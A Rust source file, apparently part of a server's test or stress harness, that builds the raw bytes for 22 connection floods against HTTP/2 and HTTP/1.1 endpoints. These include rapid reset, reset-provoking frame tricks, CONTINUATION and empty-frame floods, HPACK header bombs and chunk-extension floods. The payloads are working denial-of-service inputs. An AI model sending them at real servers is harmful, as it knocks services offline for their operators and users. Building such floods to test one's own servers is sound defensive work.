//! Floods: what a hostile client repeats on one connection.

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
/// A request to health, as a block of headers: POST, http, path, authority, content-type.
const PATH: &[u8] = b"/grpc.health.v1.Health/Check";

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const PRIORITY: u8 = 2;
const RESET: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const GOAWAY: u8 = 7;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
const PADDED: u8 = 8;

pub struct Flood {
    pub name: &'static str,
    opening: fn() -> Vec<u8>,
    /// What follows, for streams 1, 3, 5, …
    round: fn(u32) -> Vec<u8>,
}

impl Flood {
    /// What is written first.
    pub fn opening(&self) -> Vec<u8> {
        (self.opening)()
    }

    /// About 16 KiB of what is written then; `number` counts what was.
    pub fn burst(&self, number: &mut u32) -> Vec<u8> {
        let mut bytes = Vec::new();
        while bytes.len() < 16 << 10 {
            bytes.extend((self.round)(*number * 2 + 1));
            *number += 1;
        }
        bytes
    }
}

pub const FLOODS: [Flood; 22] = [
    http2("rapid reset", |stream| [request(stream, END_STREAM), frame(RESET, 0, stream, &8_u32.to_be_bytes())].concat()),
    http2("made you reset by window", |stream| [request(stream, 0), frame(WINDOW_UPDATE, 0, stream, &[0; 4])].concat()),
    http2("made you reset by data", |stream| [request(stream, END_STREAM), frame(DATA, 0, stream, b"x")].concat()),
    http2("made you reset by priority", |stream| [request(stream, END_STREAM), frame(PRIORITY, 0, stream, &[0; 4])].concat()),
    http2("headers without end", |stream| frame(if stream == 1 { HEADERS } else { CONTINUATION }, 0, 1, &block())),
    http2("empty continuations", |stream| frame(if stream == 1 { HEADERS } else { CONTINUATION }, 0, 1, &[])),
    http2("empty data", |stream| if stream == 1 { request(1, 0) } else { frame(DATA, 0, 1, &[]) }),
    http2("padding alone", |stream| if stream == 1 { request(1, 0) } else { frame(DATA, PADDED, 1, &[&[255_u8][..], &[0; 255]].concat()) }),
    http2("settings", |_| frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100])),
    http2("settings that change windows", |stream| frame(SETTINGS, 0, 0, &[0, 4, 0, 0, (stream >> 8) as u8, stream as u8])),
    http2("settings that change the table", |stream| frame(SETTINGS, 0, 0, &[0, 1, 0, 0, (stream >> 8) as u8, stream as u8])),
    http2("pings", |_| frame(PING, 0, 0, &[7; 8])),
    http2("windows of the connection", |_| frame(WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes())),
    http2("priorities", |stream| frame(PRIORITY, 0, stream, &[0, 0, 0, 0, 16])),
    http2("unknown frames", |_| frame(0xbe, 0, 0, &[1; 64])),
    http2("goodbyes", |_| frame(GOAWAY, 0, 0, &[0; 8])),
    http2("a bomb of headers", |stream| [request_with(stream, &[0xbe; 8000])].concat()),
    http2("calls whose replies are not read", |stream| request(stream, END_STREAM)),
    http2("calls of methods that there are not", |stream| frame(HEADERS, END_STREAM | END_HEADERS, stream, &block_for(b"/none"))),
    http1("requests", |_| b"GET /help HTTP/1.1\r\nhost: x\r\naccept-encoding: gzip\r\n\r\n".to_vec()),
    http1("chunks with extensions", |stream| match stream {
        1 => b"POST /help/ratings HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ntransfer-encoding: chunked\r\n\r\n".to_vec(),
        _ => b"1;aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa=b\r\nx\r\n".to_vec(),
    }),
    http1("headers", |stream| if stream == 1 { b"GET / HTTP/1.1\r\n".to_vec() } else { format!("x-{stream}: y\r\n").into_bytes() }),
];

const fn http2(name: &'static str, round: fn(u32) -> Vec<u8>) -> Flood {
    Flood { name, opening: || [PREFACE, &frame(SETTINGS, 0, 0, &[])].concat(), round }
}

const fn http1(name: &'static str, round: fn(u32) -> Vec<u8>) -> Flood {
    Flood { name, opening: Vec::new, round }
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let [_, length @ ..] = (payload.len() as u32).to_be_bytes();
    [&length[..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

fn block() -> Vec<u8> {
    block_for(PATH)
}

fn block_for(path: &[u8]) -> Vec<u8> {
    let kind = b"application/grpc";
    // Indexed `:method: POST` and `:scheme: http`; then names from the table with values of their own.
    let mut block = vec![0x83, 0x86, 0x04, path.len() as u8];
    block.extend(path);
    block.extend([0x01, 1, b'x', 0x0f, 0x10, kind.len() as u8]);
    block.extend(kind);
    block
}

fn request(stream: u32, flags: u8) -> Vec<u8> {
    frame(HEADERS, flags | END_HEADERS, stream, &block())
}

/// A request with an entry of the table that is named again and again.
fn request_with(stream: u32, again: &[u8]) -> Vec<u8> {
    let mut block = block();
    block.extend([0x40, 1, b'a', 100]);
    block.extend([b'b'; 100]);
    block.extend(again);
    frame(HEADERS, END_STREAM | END_HEADERS, stream, &block)
}
